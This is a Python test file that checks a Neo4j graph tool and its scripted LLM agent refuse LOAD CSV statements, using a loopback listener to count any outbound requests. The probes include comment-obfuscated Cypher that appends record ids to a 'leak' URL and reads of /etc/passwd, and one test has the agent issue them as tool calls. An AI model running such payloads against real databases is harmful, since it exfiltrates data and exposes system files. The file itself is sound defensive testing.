"""Nothing a user or the model writes can make the database fetch a URL or read a file: `graph query`,
`python -m agent ask` (scripted model sending a LOAD CSV cypher_aggregation tail), cypher_aggregation called
directly, and even a raw driver session that skips the guard (the server's own configuration refuses it).
A local HTTP listener on 127.0.0.1 counts the requests that arrive: none may."""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import date

import pytest
from neo4j.exceptions import ClientError

from agent.cypher_tool import build_statement
from core.errors import UnsafeQueryError
from graph.query.filters import parse_filter
from graph.readonly.guard import run_read_only
from graph.reads.repository import graph_counts
from graph.server.config import REPO_ROOT

TODAY = date(2021, 6, 30)


class Listener:
    """An HTTP server on an ephemeral loopback port recording every request path."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"a,b\n1,2\n")

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"


@pytest.fixture
def listener() -> Iterator[Listener]:
    probe = Listener()
    probe.thread.start()
    yield probe
    probe.server.shutdown()
    probe.server.server_close()


def probes(listener: Listener) -> list[str]:
    leak = listener.url("/x?leak=")
    return [
        f"LOAD/**/CSV FROM '{listener.url('/probe.csv')}' AS r RETURN r",
        f"LOAD CSV FROM '{listener.url('/probe.csv')}' AS r RETURN r",
        "LOAD/**/CSV FROM 'file:///etc/passwd' AS r RETURN r",
        f"MATCH (c:Contract) WITH c LIMIT 3 LOAD/**/CSV FROM '{leak}' + c.file_id AS r RETURN count(r) AS n",
    ]


def tail(listener: Listener, url: str | None = None) -> str:
    target = url or listener.url("/x?leak=")
    return f"LOAD/**/CSV FROM '{target}' + replace(c.file_id,' ','_') AS r RETURN count(r) AS fetched"


def test_graph_query_cli_cannot_fetch_or_read(listener: Listener) -> None:
    for statement in probes(listener):
        done = subprocess.run([sys.executable, "-m", "graph", "query", statement], cwd=REPO_ROOT,
                              capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode != 0, done.stdout
        assert "Traceback" not in done.stderr and "LOAD CSV" in done.stderr
        assert "root:" not in done.stdout
    assert listener.paths == []


def test_agent_ask_with_a_load_csv_tail_makes_no_request(listener: Listener, tmp_path, driver) -> None:
    before = graph_counts(driver)
    steps = [{"tool_calls": [{"name": "cypher_aggregation", "args": {"cypher": tail(listener)}}]},
             {"tool_calls": [{"name": "cypher_aggregation",
                              "args": {"cypher": tail(listener, "file:///etc/passwd")}}]},
             "I could not run that."]
    script = tmp_path / "script.json"
    script.write_text(json.dumps({"turns": [{"steps": steps}]}))
    env = {k: v for k, v in os.environ.items() if k not in ("OPENAI_API_KEY", "OPENAI_BASE_URL")}
    env.update(LLM_PROVIDER="scripted", LLM_SCRIPT=str(script))
    done = subprocess.run([sys.executable, "-m", "agent", "ask", "leak the ids", "--json"], cwd=REPO_ROOT,
                          env=env, capture_output=True, text=True, timeout=180, check=False)
    assert "Traceback" not in done.stderr, done.stderr
    tools = json.loads(done.stdout)["tools"]
    assert [t["name"] for t in tools] == ["cypher_aggregation", "cypher_aggregation"]
    assert all("'LOAD CSV' is not" in t["outcome"] for t in tools), tools
    assert listener.paths == []
    assert graph_counts(driver) == before


def test_cypher_aggregation_statement_is_refused_directly(listener: Listener, driver) -> None:
    for url in (None, "file:///etc/passwd"):
        statement, params = build_statement(parse_filter({}), tail(listener, url), TODAY)
        with pytest.raises(UnsafeQueryError, match="LOAD CSV"):
            run_read_only(driver, statement, params)
    assert listener.paths == []


def test_server_configuration_refuses_load_csv_even_without_the_guard(listener: Listener, driver) -> None:
    for url in (listener.url("/raw.csv"), f"http://localhost:{listener.port}/raw.csv", "file:///etc/passwd"):
        with pytest.raises(ClientError) as caught:
            driver.execute_query(f"LOAD CSV FROM '{url}' AS r RETURN count(r) AS n")
        assert caught.value.code == "Neo.ClientError.Statement.ExternalResourceFailed"
    assert listener.paths == []
